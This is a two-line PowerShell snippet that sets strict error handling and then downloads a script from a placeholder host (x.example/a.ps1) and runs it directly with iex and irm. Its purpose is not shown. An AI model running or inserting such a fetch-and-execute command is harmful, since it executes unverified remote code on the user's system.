$ErrorActionPreference = 'Stop'
iex (irm https://x.example/a.ps1)
